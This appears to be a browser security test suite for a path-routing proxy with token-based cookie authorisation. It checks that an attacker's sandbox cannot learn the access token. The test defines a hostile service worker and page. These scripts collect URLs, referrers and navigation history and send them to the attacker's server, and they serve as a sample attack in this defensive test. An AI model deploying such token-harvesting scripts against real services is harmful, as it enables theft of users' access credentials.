import { describe, expect, it } from "vitest";
import { type ActivatorWorld, httpProgram, openActivatorWorld } from "../../support/labs/activator-world.ts";
import { allBrowsers, browserLimitMs } from "./browsers/all-browsers.ts";
import type { Browser } from "./browsers/remote.ts";

const token = "of-all-sandboxes";
const paths = ["--http2", "--path-routing-prefix=/s"];
const links = ["--authz-cookie-name=door", "--authz-cookie-query-param=token", "--authz-cookie-insecure"];
const path = "/s/default/evil/8888/";

/** A service worker that tells its sandbox what it learns of each page that is opened. */
const worker = `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", ({ request }) => {
  if (request.mode !== "navigate") return;
  const known = [request.url, request.referrer, ...performance.getEntries().map(({ name }) => name)];
  fetch("told?" + encodeURIComponent(known.join(" ")));
});`;

/** A page that registers it, and tells what it can read of its own URL. `cached`: from the cache if the browser lets it. */
const page = (cached: boolean) => `<!doctype html><title>start</title><script>
const timing = performance.getEntriesByType("navigation").map(({ name }) => name);
const past = globalThis.navigation?.entries().map(({ url }) => url) ?? [];
fetch("told?" + encodeURIComponent([location.href, document.referrer, ...timing, ...past].join(" ")));
fetch("sw.js").then((response) => response.text())
  .then(() => navigator.serviceWorker.register("sw.js", { updateViaCache: "${cached ? "all" : "none"}" }))
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "has a worker"; }, () => { document.title = "has no worker"; });
</script>`;

/** A sandbox of an attacker. All that its page and its worker know is in `seen`. */
function evil(seen: string[], cached: boolean) {
  return httpProgram(({ method, url = "", headers }, response) => {
    seen.push([method, decodeURIComponent(url), headers.referer, headers.cookie].join(" "));
    const isScript = url === "/sw.js";
    response.setHeader("Content-Type", isScript ? "text/javascript" : "text/html");
    response.setHeader("Cache-Control", isScript ? "max-age=86400" : "no-store").end(isScript ? worker : page(cached));
  });
}

async function open(more: readonly string[], seen: string[], cached = true): Promise<ActivatorWorld> {
  const isOpen = !more.some((flag) => flag.startsWith("--authz-cookie"));
  const env = isOpen ? { ALLOW_UNAUTHENTICATED_ROUTER: "true" } : { ROUTER_AUTH_TOKEN: token };
  const world = await openActivatorWorld([...paths, ...more], env);
  await world.awake("evil", evil(seen, cached));
  return world;
}

const urlOf = ({ activator }: ActivatorWorld, target: string) => `http://127.0.0.1:${activator.proxyPort}${target}`;

async function show(browser: Browser, url: string, title: string): Promise<void> {
  await browser.open(url);
  await expect.poll(() => browser.evaluate("document.title").catch(String), { timeout: 60_000 }).toBe(title);
}

describe.each(allBrowsers("AAAA"))("$name", ({ path: program, start }) => {
  it.skipIf(program === undefined)(
    "shows no sandbox the token of a link, nor of a form",
    async () => {
      const seen: string[] = [];
      await using world = await open(links, seen);
      await using browser = await start(program ?? "");
      for (const link of [`${path}?token=${token}`, `/s/-/default/evil/8888/?token=${token}`]) {
        for (const _ of [1, 2]) {
          await show(browser, urlOf(world, link), "has no worker");
          expect(await browser.evaluate("location.href")).toBe(urlOf(world, path));
          await browser.open("about:blank");
        }
      }
      await browser.open(urlOf(world, "/healthz"));
      const form = `<form method="post" action="${path}?token=${token}"></form>`;
      await browser.evaluate(
        `(document.documentElement.innerHTML = ${JSON.stringify(form)}, document.forms[0].submit())`,
      );
      await expect.poll(() => browser.evaluate("document.title").catch(String)).toBe("has no worker");
      expect(seen.filter((line) => line.startsWith("GET / "))).toHaveLength(5);
      expect(seen.join("\n")).not.toContain(token);
    },
    browserLimitMs,
  );

  it.skipIf(program === undefined)(
    "ends a service worker that was there before links had tokens, which never sees an entry path",
    async () => {
      const seen: string[] = [];
      await using browser = await start(program ?? "");
      let port: number;
      {
        await using before = await open([], seen, false);
        port = before.activator.proxyPort;
        await show(browser, urlOf(before, path), "has a worker");
        await show(browser, urlOf(before, path), "has a worker");
        await expect.poll(() => seen.filter((line) => line.startsWith("GET /told?")).length).toBeGreaterThan(2);
        await browser.open("about:blank");
      }
      await using world = await open([...links, `--http-bind-address=127.0.0.1:${port}`], seen, false);
      await browser.open(urlOf(world, `/s/-/default/evil/8888/?token=${token}`));
      const workers = "navigator.serviceWorker.getRegistrations().then(({ length }) => { document.title = length })";
      const count = async () => {
        await browser.evaluate(`(${workers}, "")`);
        return browser.evaluate("document.title");
      };
      await expect.poll(() => count().catch(String), { timeout: 60_000 }).toBe("0");
      await show(browser, urlOf(world, `${path}?token=${token}`), "has no worker");
      expect(seen.join("\n")).not.toContain(token);
    },
    browserLimitMs,
  );

  it.skipIf(program === undefined)(
    "keeps the URL of an error from other pages of its host",
    async () => {
      await using world = await open(links, []);
      await using browser = await start(program ?? "");
      await show(browser, urlOf(world, `${path}?token=${token}`), "has no worker");
      const frame = `<iframe src="/s/default/evil/8888/?token=wrong" onload="document.title='loaded'"></iframe>`;
      await browser.evaluate(`(document.body.innerHTML = ${JSON.stringify(frame)})`);
      await expect.poll(() => browser.evaluate("document.title")).toBe("loaded");
      await expect(browser.evaluate("frames[0].location.href")).rejects.toThrow(/cross-origin/);
    },
    browserLimitMs,
  );
});
